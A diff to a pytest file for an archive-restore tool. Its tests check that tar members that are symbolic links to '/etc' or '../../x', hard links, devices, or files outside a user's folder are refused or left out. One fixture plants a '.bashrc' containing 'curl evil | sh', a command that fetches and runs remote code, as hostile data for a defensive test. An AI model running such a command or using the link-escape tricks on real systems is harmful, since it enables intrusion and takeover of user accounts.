@@ -144,8 +144,7 @@ def restored(capsys, path: Path, *options: str) -> None:
 @pytest.mark.parametrize(
     ("info", "why"),
     [
-        (entry("alice/etc", type=tarfile.SYMTYPE, linkname="/etc")[0], "symbolic link"),
-        (entry("alice/up", type=tarfile.SYMTYPE, linkname="../../x")[0], "symbolic link"),
+        (entry("bob/etc", type=tarfile.SYMTYPE, linkname="/etc")[0], "outside its folder"),
         (entry("alice/hosts", type=tarfile.LNKTYPE, linkname="/etc/hosts")[0], "hard link"),
         (entry("alice/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)[0], "device"),
         (entry("alice/pipe", type=tarfile.FIFOTYPE)[0], "device or pipe"),
@@ -367,7 +366,6 @@ def test_a_hard_link_out_of_a_home_overwrites_nothing(site, tmp_path, capsys, mo
     ("member", "why"),
     [
         (entry("alice/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3), "device"),
-        (entry("alice/etc", type=tarfile.SYMTYPE, linkname="/etc"), "symbolic link to '/etc'"),
         (entry("bob/.bashrc", b"curl evil | sh\n"), "outside its folder 'alice'"),
     ],
 )
@@ -398,6 +396,31 @@ def test_a_link_a_user_left_in_their_home_does_not_lead_the_restore_out(
     )
     refused(capsys, evil, state, "outside the destination")
     assert list(outside.iterdir()) == []
+
+
+def test_a_link_in_a_home_is_left_out_and_named_and_the_rest_is_restored(
+    site, tmp_path, capsys, monkeypatch
+):
+    """Homes hold links (a virtualenv's bin/python): one never aborts the restore; it is not
+    written (it could lead out of the home) and the output names it."""
+    state, base = site
+    homes = tmp_path / "homes"
+    monkeypatch.setenv("FGPU_SWARM_HOME_ROOT", str(homes))
+    home = [
+        folder("alice"),
+        entry("alice/etc", type=tarfile.SYMTYPE, linkname="/etc"),
+        entry("alice/up", type=tarfile.SYMTYPE, linkname="../../x"),
+        entry("alice/notes.txt", b"kept\n"),
+    ]
+    code = main(
+        ["restore", str(home_archive(base, tmp_path / "links.tar.gz", "alice", home)), "--yes"]
+    )
+    _, err = capsys.readouterr()
+    assert code == 0, err
+    assert (homes / "alice" / "notes.txt").read_text() == "kept\n"
+    assert sorted(p.name for p in (homes / "alice").iterdir()) == ["notes.txt"]
+    assert "left out alice/etc (symbolic link to '/etc')" in err
+    assert "left out alice/up (symbolic link to '../../x')" in err
 
 
 def test_restored_home_files_belong_to_the_session_user(site, tmp_path, capsys, monkeypatch):
